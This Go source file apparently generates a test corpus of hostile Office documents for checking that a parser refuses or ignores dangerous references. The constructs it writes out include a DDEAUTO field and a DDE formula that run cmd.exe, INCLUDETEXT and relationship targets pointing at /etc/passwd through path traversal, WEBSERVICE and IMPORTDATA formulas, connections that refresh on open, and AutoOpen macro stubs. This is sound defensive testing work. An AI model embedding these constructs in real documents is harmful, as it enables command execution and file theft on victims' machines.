package hostile

import (
	"strings"
)

// references are files that point to themselves, or outside, and ask to be
// followed.
func references() []File {
	const kind = "reference"
	field := func(code string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + code + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	document := func(body string, list ...string) func() []byte {
		return func() []byte {
			return packed(word(para(Fact)+body, text("word/_rels/document.xml.rels", rels(list...)))...)
		}
	}
	blip := `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="999999999999" cy="1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
	return []File{
		inert("ref-template.docx", kind, "template that is fetched", document("", rel("rId9", "attachedTemplate", address+".dotm", true))),
		inert("ref-picture.docx", kind, "picture that is fetched", document(para("下列照片为现场核查时拍摄，按时间先后排列。")+blip, rel("rId9", "image", address+".png", true))),
		inert("ref-ole.docx", kind, "linked object that is fetched", document(`<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rId9"/></w:object></w:r></w:p>`, rel("rId9", "oleObject", address+".xlsx", true))),
		inert("ref-hyperlink.docx", kind, "links to programs and files", document(`<w:hyperlink r:id="rId9"><w:r><w:t>点这里</w:t></w:r></w:hyperlink>`, rel("rId9", "hyperlink", "file:///C:/Windows/System32/calc.exe", true), rel("rId8", "hyperlink", "javascript:alert(1)", true))),
		inert("ref-fields.docx", kind, "fields that run a program or include a file", document(field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"`)+field(`INCLUDETEXT "/etc/passwd"`)+field(`INCLUDEPICTURE "`+address+`"`))),
		inert("ref-chunk.docx", kind, "parts of the text that are fetched", document(`<w:altChunk r:id="rId9"/><w:subDoc r:id="rId8"/>`, rel("rId9", "aFChunk", address, true), rel("rId8", "subDocument", secret, true))),
		inert("ref-self.docx", kind, "relationships that point to their own part", document("", rel("rId1", "styles", "document.xml", false), rel("rId2", "numbering", "document.xml", false), rel("rId3", "footnotes", "document.xml", false), rel("rId4", "chart", "_rels/document.xml.rels", false))),
		inert("ref-notes.docx", kind, "a footnote that cites itself", noteInNote),
		inert("ref-outside.docx", kind, "parts named outside of the file", document("", rel("rId1", "styles", "../../../../etc/passwd", false), rel("rId2", "numbering", "/etc/passwd", false))),
		refused("ref-main-outside.docx", kind, "main part named outside of the file", "docx-no-text", func() []byte {
			return packed(word("", text("_rels/.rels", rels(rel("rId1", "officeDocument", address, true))), text("word/document.xml", "<a/>"))...)
		}),
		refused("ref-self.xlsx", kind, "the workbook is its own list of relationships", "xlsx-damaged", func() []byte {
			return packed(book("", text("_rels/.rels", rels(rel("rId1", "officeDocument", "_rels/.rels", false))))...)
		}),
		refused("ref-outside.xlsx", kind, "sheet named outside of the file", "xlsx-damaged", func() []byte {
			return packed(book("", text("xl/_rels/workbook.xml.rels", rels(rel("rId1", "worksheet", secret, true))))...)
		}),
		inert("ref-formulas.xlsx", kind, "formulas that fetch and run", runningFormulas),
		inert("ref-connections.xlsx", kind, "connections that are refreshed at opening", func() []byte {
			return packed(book("<sheetData>"+told()+"</sheetData>",
				text("xl/connections.xml", declaration+`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" refreshOnLoad="1" type="4"><webPr url="`+address+`"/></connection></connections>`),
				text("xl/_rels/workbook.xml.rels", rels(rel("rId1", "worksheet", "worksheets/sheet1.xml", false), rel("rId2", "connections", "connections.xml", false), rel("rId3", "externalLinkPath", address, true))))...)
		}),
		inert("macro.docm", "macro", "macros beside the text", func() []byte {
			return packed(word(para(Fact), member{name: "word/vbaProject.bin", body: compound("VBA", "AutoOpen")}, text("word/_rels/document.xml.rels", rels(`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`)))...)
		}),
		inert("macro.xlsm", "macro", "macros beside the sheet", func() []byte {
			return packed(book("<sheetData>"+told()+"</sheetData>", member{name: "xl/vbaProject.bin", body: compound("VBA", "Workbook_Open")})...)
		}),
		inert("macro.docx", "macro", "macros in a file that says it has none", func() []byte {
			return packed(word(para(Fact), member{name: "word/vbaProject.bin", body: compound("VBA", "AutoOpen")}, member{name: "word/embeddings/oleObject1.bin", body: compound("Package")})...)
		}),
		inert("macro-sheet.xlsm", "macro", "a sheet of Excel 4 macros", func() []byte {
			return packed(book("<sheetData>"+told()+"</sheetData>", text("xl/macrosheets/sheet1.xml", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>`))...)
		}),
	}
}

func noteInNote() []byte {
	note := `<w:r><w:footnoteReference w:id="2"/></w:r>`
	xml := declaration + `<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="2"><w:p><w:r><w:t>见注</w:t></w:r>` + strings.Repeat(note, 50) + `</w:p></w:footnote></w:footnotes>`
	body := `<w:p><w:r><w:t>` + Fact + `</w:t></w:r>` + note + `</w:p>`
	return packed(word(body, text("word/footnotes.xml", xml), text("word/_rels/document.xml.rels", rels(rel("rId1", "footnotes", "footnotes.xml", false))))...)
}

func runningFormulas() []byte {
	var b strings.Builder
	b.WriteString("<sheetData>" + told())
	for i, f := range []string{`[1]Sheet1!$A$1`, `WEBSERVICE(&quot;` + address + `&quot;)`, `cmd|&apos;/C calc&apos;!A0`, `HYPERLINK(&quot;` + address + `&quot;,&quot;x&quot;)`, `IMPORTDATA(&quot;` + address + `&quot;)`, `INDIRECT(&quot;[http://127.0.0.1/x.xlsx]a!A1&quot;)`, `A2`} {
		row := string(rune('2' + i))
		b.WriteString(`<row r="` + row + `"><c r="A` + row + `" t="str"><f>` + f + `</f><v>值</v></c></row>`)
	}
	b.WriteString("</sheetData>")
	return packed(book(b.String(), text("xl/externalLinks/externalLink1.xml", declaration+`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`),
		text("xl/externalLinks/_rels/externalLink1.xml.rels", rels(rel("rId1", "externalLinkPath", secret, true))))...)
}
